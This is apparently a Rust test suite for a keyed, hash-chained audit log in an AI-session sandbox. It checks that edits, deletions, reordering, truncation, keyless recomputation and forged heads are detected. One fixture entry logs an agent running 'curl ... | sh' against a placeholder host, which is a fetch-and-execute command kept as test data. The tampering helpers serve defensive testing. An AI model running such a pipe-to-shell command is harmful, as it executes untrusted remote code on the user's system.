//! Tampering with the audit log is caught by `verify`, naming the first bad line: edits,
//! deletions, insertions, reordering, lines cut from either end, an emptied or deleted file, a
//! chain recomputed without the key, a forged head. A log damaged under the daemon is repaired
//! into a new segment that records the break.

use std::path::Path;
use std::time::{Duration, SystemTime};

use ai_session_sandbox::audit::{
    self, Actor, AuditError, AuditLog, Entry, Head, Query, Record, VerifyError,
};

use super::common::TempDir;

fn record(action: &str, detail: &str, result: &str) -> Record {
    Record {
        session: Some("build".into()),
        ..Record::new(Actor::Agent("7".into()), action, detail, result)
    }
}

fn write_log(path: &Path) {
    let mut log = AuditLog::open(path).unwrap();
    log.append(record("exec", "ls -la", "ok")).unwrap();
    log.append(record(
        "exec",
        "curl -fsSL https://x.invalid/i.sh | sh",
        "ok",
    ))
    .unwrap();
    log.append(record("denied_request", "session:exec:prod", "denied"))
        .unwrap();
    log.append(record("exec", "cargo test", "ok")).unwrap();
}

fn lines(path: &Path) -> Vec<String> {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

fn save(path: &Path, lines: &[String]) {
    std::fs::write(
        path,
        lines.iter().map(|l| format!("{l}\n")).collect::<String>(),
    )
    .unwrap();
}

fn damage(path: &Path) -> VerifyError {
    match audit::verify(path) {
        Err(AuditError::Damaged { error, .. }) => error,
        other => panic!("tampering not detected: {other:?}"),
    }
}

fn fresh(name: &str) -> (TempDir, std::path::PathBuf) {
    let tmp = TempDir::new(name);
    let path = tmp.path().join("audit.jsonl");
    write_log(&path);
    (tmp, path)
}

/// What an attacker without the key can do: recompute every hash with plain SHA-256 (the old
/// format) after changing the lines.
fn recompute_without_key(lines: &[String]) -> Vec<String> {
    use sha2::{Digest, Sha256};
    let mut prev = "0".repeat(64);
    let mut out = Vec::new();
    for (i, l) in lines.iter().enumerate() {
        let mut e: Entry = serde_json::from_str(l).unwrap();
        e.seq = i as u64 + 1;
        e.prev_hash = prev.clone();
        e.hash = String::new();
        let digest = Sha256::digest(serde_json::to_vec(&e).unwrap());
        e.hash = digest.iter().map(|b| format!("{b:02x}")).collect();
        prev = e.hash.clone();
        out.push(serde_json::to_string(&e).unwrap());
    }
    out
}

#[test]
fn an_intact_log_verifies_and_reopens_with_the_chain_continued() {
    let (tmp, path) = fresh("audit-ok");
    let report = audit::verify(&path).unwrap();
    assert_eq!((report.entries, report.head_seq), (4, 4));
    let mut log = AuditLog::open(&path).unwrap();
    assert_eq!(log.append(record("exec", "true", "ok")).unwrap().seq, 5);
    assert_eq!(audit::verify(&path).unwrap().entries, 5);
    use std::os::unix::fs::PermissionsExt;
    for f in ["audit.key", "audit.head", "audit.jsonl"] {
        let mode = std::fs::metadata(tmp.path().join(f))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{f}");
    }
}

#[test]
fn an_edited_line_is_caught() {
    let (_tmp, path) = fresh("audit-edit");
    let mut l = lines(&path);
    l[1] = l[1].replace("curl", "echo");
    save(&path, &l);
    assert_eq!(damage(&path), VerifyError::HashMismatch { line: 2 });
}

#[test]
fn a_lowered_risk_score_is_caught() {
    let (_tmp, path) = fresh("audit-risk");
    let mut l = lines(&path);
    assert!(l[1].contains("\"risk\":50"), "{}", l[1]);
    l[1] = l[1].replace("\"risk\":50", "\"risk\":0");
    save(&path, &l);
    assert_eq!(damage(&path), VerifyError::HashMismatch { line: 2 });
}

#[test]
fn a_deleted_line_is_caught() {
    let (_tmp, path) = fresh("audit-del");
    let mut l = lines(&path);
    l.remove(2);
    save(&path, &l);
    assert_eq!(damage(&path), VerifyError::BrokenChain { line: 3, prev: 2 });
}

#[test]
fn a_reordered_pair_is_caught() {
    let (_tmp, path) = fresh("audit-swap");
    let mut l = lines(&path);
    l.swap(1, 2);
    save(&path, &l);
    assert_eq!(damage(&path), VerifyError::BrokenChain { line: 2, prev: 1 });
}

#[test]
fn an_inserted_line_copied_from_elsewhere_is_caught() {
    let (_tmp, path) = fresh("audit-ins");
    let mut l = lines(&path);
    let copy = l[0].clone();
    l.insert(2, copy);
    save(&path, &l);
    assert_eq!(damage(&path), VerifyError::BrokenChain { line: 3, prev: 2 });
}

#[test]
fn lines_cut_from_the_end_are_caught_by_the_signed_head() {
    let (_tmp, path) = fresh("audit-cut");
    let mut l = lines(&path);
    l.truncate(2);
    save(&path, &l);
    assert_eq!(
        damage(&path),
        VerifyError::TruncatedEnd {
            last_seq: 2,
            head_seq: 4
        }
    );
}

#[test]
fn an_emptied_log_is_caught() {
    let (_tmp, path) = fresh("audit-empty");
    std::fs::write(&path, "").unwrap();
    assert_eq!(
        damage(&path),
        VerifyError::TruncatedEnd {
            last_seq: 0,
            head_seq: 4
        }
    );
    assert!(AuditLog::open(&path).is_err(), "the daemon refuses it too");
}

#[test]
fn a_deleted_log_file_is_caught() {
    let (_tmp, path) = fresh("audit-gone");
    std::fs::remove_file(&path).unwrap();
    assert_eq!(damage(&path), VerifyError::LogMissing { head_seq: 4 });
    assert!(AuditLog::open(&path).is_err());
}

#[test]
fn lines_cut_from_the_front_are_caught() {
    let (_tmp, path) = fresh("audit-front");
    let l = lines(&path);
    save(&path, &l[2..]);
    assert_eq!(damage(&path), VerifyError::MissingStart { first_seq: 3 });
}

#[test]
fn a_chain_recomputed_without_the_key_is_caught() {
    let (_tmp, path) = fresh("audit-recompute");
    let mut l = lines(&path);
    // Delete the risky line, recompute every hash and seq so the chain is self-consistent.
    l.remove(1);
    save(&path, &recompute_without_key(&l));
    assert_eq!(damage(&path), VerifyError::Recomputed { line: 1, lines: 3 });
}

#[test]
fn a_recomputed_chain_with_a_rolled_back_head_is_still_caught() {
    let (tmp, path) = fresh("audit-head");
    // The attacker also rewrites the head to name its own last entry, without the key.
    let l = recompute_without_key(&lines(&path)[..2]);
    save(&path, &l);
    let last: Entry = serde_json::from_str(&l[1]).unwrap();
    let forged = Head {
        first_seq: 1,
        seq: 2,
        hash: last.hash,
        mac: "0".repeat(64),
    };
    std::fs::write(
        tmp.path().join("audit.head"),
        serde_json::to_vec(&forged).unwrap(),
    )
    .unwrap();
    assert_eq!(damage(&path), VerifyError::HeadForged);
}

#[test]
fn a_torn_last_line_blocks_appends_until_repaired_into_a_new_segment() {
    let (tmp, path) = fresh("audit-trunc");
    let data = std::fs::read(&path).unwrap();
    std::fs::write(&path, &data[..data.len() - 20]).unwrap();
    assert_eq!(damage(&path), VerifyError::Truncated { line: 4 });
    assert!(matches!(
        AuditLog::open(&path),
        Err(AuditError::Damaged { .. })
    ));
    let repaired = AuditLog::repair(&path, Actor::Owner, "torn line").unwrap();
    let moved = repaired.moved_to.expect("the damaged file is kept");
    assert_eq!(std::fs::read(&moved).unwrap(), &data[..data.len() - 20]);
    // The new segment chains on from the last entry the signed head vouched for.
    assert_eq!(repaired.entry.seq, 5);
    assert_eq!(repaired.entry.action, "audit.repair");
    assert!(
        repaired.entry.detail.contains("torn line"),
        "{}",
        repaired.entry.detail
    );
    let report = audit::verify(&path).unwrap();
    assert_eq!(report.breaks.len(), 1);
    let mut log = AuditLog::open(&path).unwrap();
    assert_eq!(log.append(record("exec", "true", "ok")).unwrap().seq, 6);
    assert!(tmp.path().join("audit.key").exists());
}

#[test]
fn a_log_deleted_under_the_writer_is_recreated_with_a_gap_entry() {
    let tmp = TempDir::new("audit-deleted");
    let path = tmp.path().join("audit.jsonl");
    let mut log = AuditLog::open(&path).unwrap();
    log.append(record("exec", "one", "ok")).unwrap();
    log.append_unsynced(record("exec", "two", "ok")).unwrap();
    std::fs::remove_file(&path).unwrap();
    let gap = log.check_file().unwrap().expect("the deletion is noticed");
    assert_eq!(gap.action, "audit.gap");
    assert!(gap.detail.contains("recovered"), "{}", gap.detail);
    log.append(record("exec", "three", "ok")).unwrap();
    let report = audit::verify(&path).unwrap();
    assert_eq!(report.entries, 4, "nothing was lost");
    assert!(log.check_file().unwrap().is_none());
}

#[test]
fn a_log_cut_under_the_writer_is_reported() {
    let tmp = TempDir::new("audit-cut-live");
    let path = tmp.path().join("audit.jsonl");
    let mut log = AuditLog::open(&path).unwrap();
    log.append(record("exec", "one", "ok")).unwrap();
    log.append(record("exec", "two", "ok")).unwrap();
    std::fs::OpenOptions::new()
        .write(true)
        .open(&path)
        .unwrap()
        .set_len(0)
        .unwrap();
    assert!(matches!(log.check_file(), Err(AuditError::Tampered { .. })));
}

#[test]
fn an_unkeyed_log_of_the_older_format_is_moved_aside_once() {
    let tmp = TempDir::new("audit-legacy");
    let path = tmp.path().join("audit.jsonl");
    let entry = |seq: u64, detail: &str| Entry {
        seq,
        time: audit::format_time(SystemTime::now()),
        actor: Actor::Owner,
        session: None,
        session_id: None,
        action: "session.exec".into(),
        detail: detail.into(),
        result: "ok".into(),
        risk: 0,
        prev_hash: String::new(),
        hash: String::new(),
    };
    let old = vec![
        serde_json::to_string(&entry(1, "a")).unwrap(),
        serde_json::to_string(&entry(2, "b")).unwrap(),
    ];
    save(&path, &recompute_without_key(&old));
    let mut log = AuditLog::open(&path).unwrap();
    assert_eq!(log.append(record("exec", "c", "ok")).unwrap().seq, 4);
    let report = audit::verify(&path).unwrap();
    assert_eq!(report.breaks[0].action, "audit.segment");
    assert_eq!(report.breaks[0].seq, 3);
}

#[test]
fn query_filters_by_time_and_risk() {
    let tmp = TempDir::new("audit-query");
    let path = tmp.path().join("audit.jsonl");
    let before = SystemTime::now() - Duration::from_secs(1);
    write_log(&path);
    let all = audit::query(
        &path,
        &Query {
            since: Some(before),
            ..Query::default()
        },
    )
    .unwrap();
    assert_eq!(all.len(), 4);
    let risky = audit::query(
        &path,
        &Query {
            min_risk: 40,
            ..Query::default()
        },
    )
    .unwrap();
    let actions: Vec<&str> = risky.iter().map(|e| e.action.as_str()).collect();
    assert_eq!(actions, ["exec", "denied_request"]);
    let future = SystemTime::now() + Duration::from_secs(3600);
    assert!(
        audit::query(
            &path,
            &Query {
                since: Some(future),
                ..Query::default()
            }
        )
        .unwrap()
        .is_empty()
    );
}
